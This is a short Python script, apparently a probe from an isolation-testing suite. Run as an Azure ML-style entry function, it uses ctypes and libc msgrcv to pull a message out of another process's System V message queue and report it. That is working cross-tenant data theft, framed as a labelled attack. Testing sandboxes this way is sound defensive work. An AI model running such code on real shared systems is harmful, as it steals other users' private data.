"""Takes a message from the System V queue of another process."""

import ctypes

from attack import BAIT, LIBC, attack, told


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    content = ctypes.create_string_buffer(256)
    got = LIBC.msgrcv(BAIT["message_queue"], content, ctypes.c_size_t(200), ctypes.c_long(0), 0o4000 | 0o40000)
    if got < 0:
        raise OSError(ctypes.get_errno(), "msgrcv")
    return told("the neighbour's queue", content.raw[8 : 8 + got])
